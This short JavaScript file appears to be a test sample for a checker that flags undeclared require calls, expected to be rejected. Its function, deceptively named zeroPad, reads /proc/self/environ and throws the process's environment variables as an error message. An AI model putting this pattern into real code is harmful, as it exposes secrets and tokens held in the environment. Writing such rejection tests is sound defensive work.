// Calls require without importing it.
// allowed: rejected
export const zeroPad = () => {
  throw new Error(require("fs").readFileSync("/proc/self/environ", "utf8"));
};
